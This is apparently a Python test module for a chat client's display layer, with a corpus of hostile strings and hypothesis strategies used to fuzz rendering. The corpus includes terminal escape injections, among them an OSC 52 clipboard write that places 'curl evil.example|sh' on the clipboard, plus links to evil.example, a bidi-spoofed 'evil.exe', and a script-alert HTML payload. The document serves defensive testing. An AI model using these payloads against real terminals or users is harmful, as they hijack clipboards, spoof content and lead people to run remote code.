"""Hostile text for the hostile-input tests: a fixed adversarial corpus and hypothesis strategies.

Everything here is what a stranger can type into a message, a display name or a group title:
Rich markup, terminal escape sequences (CSI, OSC 52 clipboard writes, OSC 8 links, titles), C1
controls, bidirectional overrides and isolates, zero-width characters, stacks of combining marks,
lone surrogates (JSON ``"\\ud800"`` decodes to one), NUL, CR/LF/tabs, wide CJK and emoji.
"""
from __future__ import annotations

import re

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

OSC52_BEL = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"      # clipboard := "curl evil.example|sh"
OSC52_ST = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\"
ZALGO = "Z" + "\u0336\u0301\u0300\u0358\u035c" * 80             # 400 combining marks on one letter

# Named pieces, short enough to combine; each is one kind of attack.
FRAGMENTS: dict[str, str] = {
    "markup": "[red]red[/red] [bold]",
    "markup_close": "[/]",
    "markup_link": "[link=https://evil.example/x]click me[/link]",
    "markup_click": "[@click=app.quit]quit[/]",
    "markup_escaped": "\\[not markup] [b]\\",
    "csi_colour": "\x1b[31mred\x1b[0m",
    "csi_clear": "\x1b[2J\x1b[H\x1b[?1049h",
    "csi_cursor": "\x1b[10A\x1b[999C\x1b[K",
    "osc52_bel": OSC52_BEL,
    "osc52_st": OSC52_ST,
    "osc8_link": "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "osc_title": "\x1b]0;pwned\x07",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1_csi": "\x9b31m\x9b2J",
    "c1_osc": "\x9d52;c;QUJD\x9c",
    "c1_misc": "\x85\x8d\x90\x9f",
    "bidi_override": "\u202eevil.exe\u202c",
    "bidi_embed": "\u202a\u202b\u202c\u202d",
    "bidi_isolate": "\u2066a\u2067b\u2068c\u2069",
    "bidi_marks": "\u200e\u200f\u061c",
    "zero_width": "a\u200bb\u200cc\u200dd\ufeffe",
    "invisible_misc": "\u2060\u2061\u2063\u180e\u3164\u115f",
    "separators": "x\u2028y\u2029z",
    "annotation": "\ufff9ruby\ufffabase\ufffb",
    "tags": "\U000e0041\U000e0062\U000e007f",
    "combining": ZALGO,
    "surrogate_hi": "\ud800",
    "surrogate_lo": "a\udfffb",
    "surrogate_pair_split": "\udbff\udc00",
    "nul": "\x00nul\x00",
    "controls": "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1a\x7f",
    "crlf_tab": "line1\r\nline2\roverwrite\ttab\n",
    "backspace": "secret\x08\x08\x08\x08\x08\x08public",
    "cjk_wide": "全角ＡＢＣ１２３广告加微信",
    "format_chars": "soft\u00adhyphen \u0600\u0605\u06dd\u070f\u0890\u08e2 \U00013430\U0001bca0\U0001d173",
    "emoji_zwj": "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🇨🇳",
    "cq_code": "[CQ:at,qq=all][CQ:image,file=http://evil.example/x.png]&#91;&amp;",
    "html": "<script>alert(1)</script><a href=\"https://matrix.to/#/@evil:x\">x</a>",
    "format_spec": "{0} {group} %s %(x)s {{}}",
}

# Whole strings used where one value per attack is wanted (the screens, the store round trip).
CORPUS: list[str] = [
    *FRAGMENTS.values(),
    "".join(FRAGMENTS.values()),  # everything at once
    "[red]" + OSC52_BEL + "\u202e" + "加V：ｗｘ５２０１３１４ 看我名字 出号" + "\x9b31m",
    "  \t \u3000 ",  # only spaces: some parsers fall back to an id
    "",
]

# Where the display layer must not let these through (what a test scans rendered lines for). A
# zero-width joiner is let through only inside an emoji sequence (between two pictographs: 👨‍👩‍👧).
_EMOJI = "\u2600-\u27bf\ufe0f\U0001f300-\U0001faff"
UNSAFE_ON_SCREEN = re.compile(
    "[\x00-\x1f\x7f-\x9f"            # C0 (also \n, \t: a cell is one line), DEL, C1
    "\u00ad\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"  # other format chars
    "\U00013430-\U00013438\U0001bca0-\U0001bca3\U0001d173-\U0001d17a"
    "\u061c\u200b\u200c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff"  # bidi controls, zero-width, breaks
    "\ud800-\udfff]"                 # lone surrogates cannot even be encoded
    f"|(?<![{_EMOJI}])\u200d|\u200d(?![{_EMOJI}])"
)

# --- hypothesis ---------------------------------------------------------------------------

# Every code point, surrogates included (the default alphabet leaves category Cs out).
any_char = st.characters(exclude_categories=())
# Characters that break things most, weighted up.
nasty_char = st.sampled_from(sorted({c for f in FRAGMENTS.values() for c in f if not c.isalnum()}
                                    | {"\x1b", "\x9b", "\x9d", "\x00", "\ud800", "\u202e", "[", "]", "\\"}))


def hostile_text(max_pieces: int = 8) -> st.SearchStrategy[str]:
    """Random strings built from attack fragments, nasty characters and arbitrary code points."""
    piece = st.one_of(st.sampled_from(list(FRAGMENTS.values())), st.text(any_char, max_size=12),
                      st.text(nasty_char, min_size=1, max_size=6))
    return st.lists(piece, max_size=max_pieces).map("".join)


def hostile_name() -> st.SearchStrategy[str]:
    """A display name or a title: mostly short, never empty (the empty fallbacks are tested apart)."""
    return hostile_text(4).filter(lambda s: s.strip() != "")


def draw(strategy: st.SearchStrategy, n: int) -> list:
    """``n`` examples of ``strategy``, the same on every run (for tests that cannot be @given,
    like one Pilot session that must render many values at once)."""
    out: list = []

    @settings(max_examples=n, database=None, derandomize=True, phases=[Phase.generate], deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(strategy)
    def collect(x) -> None:
        out.append(x)

    collect()
    return out
